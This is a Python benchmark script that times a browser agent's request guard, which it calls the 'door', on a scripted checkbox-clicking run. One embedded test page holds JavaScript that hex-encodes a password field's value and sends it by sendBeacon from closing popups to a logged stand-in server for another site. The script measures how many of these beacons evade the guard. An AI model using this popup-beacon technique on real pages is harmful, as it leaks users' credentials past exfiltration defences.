"""What the door costs per step on the 3,000-row page: a scripted run clicking checkboxes, with and without it.

Figures, not asserts. Each click also sends a same-site ``fetch`` with a body and loads a same-site image with
a query string, so every step has requests for the door to judge. Variants, interleaved in each repeat so a
slow spell of the machine falls on all of them alike:

- ``no door``: ``approval="auto"`` and no secrets: no route, no interception, nothing judged;
- ``door``: ``approval="deny-risky"``: the context's route, each tab's DevTools interception and WebSocket
  route (the door as it is in the checked-out package);
- ``door+secret``: the same with a secret scoped to the page's site: every request's URL, headers and body
  are also searched for its value in every encoding, and the session-long door (browser/door/live.py) asks
  of each request whether it carries data to a site outside the secret's own.

Each run has a session of its own (a secret stays live in a session until it closes). Then, after a run:

- ``after the run``: the time the notebook's own ``page.goto`` of a same-site page takes in a session with no
  secret and in one where a secret is live (the door stays on the session's tabs);
- ``popup's first moments``: of 20 popups that an opener scripts at once to send the live secret (hex) as a
  beacon when they close 50 ms later, how many reach the other site (what the door cannot hold yet).

Run against two checkouts to compare the door with an earlier one: ``PYTHONPATH=OTHER python
benchmarks/door_step.py``. Run: .venv/bin/python benchmarks/door_step.py [--repeats N] [--steps N]
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import statistics
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from snapshot import serve, table  # benchmarks/snapshot.py: page generators, a local server

import notebook_agent
from notebook_agent.agent import PageAgent
from notebook_agent.agent.prompt.agent_output import agent_output
from notebook_agent.browser import BrowserSession
from notebook_agent.llm.scripted import ScriptedModel


def checkboxes(steps: int) -> str:
    return "".join(
        f"<p><input type=checkbox id=c{i} name=c{i} "
        f"onchange=\"fetch('/ping?i={i}',{{method:'POST',body:'n={i}'}});new Image().src='/img?i={i}'\">"
        f"<label for=c{i}>Option {i}</label></p>"
        for i in range(steps)
    )


VARIANTS: dict[str, dict[str, Any]] = {
    "no door": {"approval": "auto"},
    "door": {"approval": "deny-risky"},
    "door+secret": {"approval": "deny-risky", "secret": True},
}


async def main(repeats: int, steps: int) -> None:
    print(f"package: {Path(notebook_agent.__file__).parent}")
    print(f"door cost per step, table 3000 rows, {steps} checkbox clicks x {repeats} repeats (median ms per step):")
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        server, port = serve(root)
        (root / "t.html").write_text(table(3000).replace("<body>", "<body>" + checkboxes(steps), 1))
        url = f"http://127.0.0.1:{port}/t.html"
        per_step: dict[str, list[float]] = {v: [] for v in VARIANTS}
        actions: dict[str, list[float]] = {v: [] for v in VARIANTS}
        after: dict[str, list[float]] = {"no door": [], "door+secret": []}
        try:
            for _ in range(repeats):
                for name, variant in VARIANTS.items():
                    async with BrowserSession() as browser:
                        await browser.open(url)
                        by_id = {e.attributes.get("id"): i for i, e in (await browser.snapshot()).elements.items()}
                        indices = [by_id[f"c{i}"] for i in range(steps)]
                        script = [agent_output("click_element_by_index", {"index": index}) for index in indices]
                        script.append(agent_output("done", {"text": "ok", "success": True}))
                        kw: dict[str, Any] = {"approval": variant["approval"]}
                        if variant.get("secret"):
                            kw["secrets"] = {f"http://127.0.0.1:{port}": {"pw": "S3cr3t-Value-42"}}
                        agent = PageAgent(
                            model=ScriptedModel(script),
                            browser=browser,
                            start_url=url,
                            screenshots=False,
                            max_steps=steps + 1,
                            **kw,
                        )
                        result = await agent.run("tick every checkbox")
                        assert result.status == "completed", result.error
                        for a, nxt in itertools.pairwise(result.steps):
                            per_step[name].append((nxt.started_at - a.started_at) * 1000)
                        actions[name].extend(s.action_ms for s in result.steps if s.action != "done")
                        if name != "door":
                            t = time.perf_counter()
                            await browser.page.goto(url, wait_until="domcontentloaded")
                            after[name].append((time.perf_counter() - t) * 1000)
            popups = await popup_beacons(root, port, 20)
        finally:
            server.shutdown()
    base = statistics.median(per_step["no door"])
    print(f"  {'variant':12} {'step':>7} {'vs no door':>10} {'action':>7}")
    for name in VARIANTS:
        med = statistics.median(per_step[name])
        print(f"  {name:12} {med:7.1f} {med - base:+10.1f} {statistics.median(actions[name]):7.1f}")
    print("  (step = from one step's start to the next's; action = the click itself, its requests judged)")
    print("after the run, the notebook's own page.goto of the same page (median ms):")
    plain, live = statistics.median(after["no door"]), statistics.median(after["door+secret"])
    print(f"  no secret {plain:7.1f}   secret live {live:7.1f}")
    print(f"popup's first moments: {popups}/20 beacons reached the other site with a secret live")


POPUP_PAGE = """<!doctype html><input type=password id=pw><button id=go onclick="pop()">Go</button><script>
function hex(s) { return Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join(''); }
function pop() { const w = window.open('/blank.html'), v = document.getElementById('pw').value;
  w.addEventListener('pagehide', () => w.navigator.sendBeacon(THERE + '/pb/' + hex(v)));
  setTimeout(() => w.close(), 50); }
</script>"""


async def popup_beacons(root: Path, port: int, tries: int) -> int:
    """How many of ``tries`` popups' closing beacons reach the other site (``localhost``) while a secret is live."""
    other, other_port = serve_logged()
    (root / "blank.html").write_text("<!doctype html><p>popup</p>")
    (root / "popup.html").write_text(POPUP_PAGE.replace("THERE", f"'http://localhost:{other_port}'"))
    url = f"http://127.0.0.1:{port}/popup.html"
    script = [agent_output("input_text", {"index": 0, "text": "<secret>pw</secret>"})]
    script += [agent_output("click_element_by_index", {"index": 1}) for _ in range(tries)]
    script.append(agent_output("done", {"text": "ok", "success": True}))
    try:
        async with BrowserSession() as browser:
            agent = PageAgent(
                model=ScriptedModel(script),
                browser=browser,
                start_url=url,
                screenshots=False,
                max_steps=tries + 2,
                approval="deny-risky",
                secrets={f"http://127.0.0.1:{port}": {"pw": "S3cr3t-Value-42"}},
            )
            await agent.run("open the popups")
            await asyncio.sleep(1.0)
    finally:
        other.shutdown()
    return len(LOGGED)


LOGGED: list[str] = []


class Quiet(ThreadingHTTPServer):
    def handle_error(self, request: object, client_address: object) -> None:
        pass  # a beacon's connection closed by the browser as the popup went


def serve_logged() -> tuple[ThreadingHTTPServer, int]:
    """The other site: it logs every request it receives."""

    class Logged(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_POST(self) -> None:
            LOGGED.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_GET = do_POST

    server = Quiet(("127.0.0.1", 0), Logged)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, server.server_address[1]


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--repeats", type=int, default=3, help="repeats of each variant (default 3)")
    parser.add_argument("--steps", type=int, default=20, help="checkbox clicks per run (default 20)")
    args = parser.parse_args()
    t0 = time.perf_counter()
    asyncio.run(main(args.repeats, args.steps))
    print(f"  ({time.perf_counter() - t0:.0f} s)")
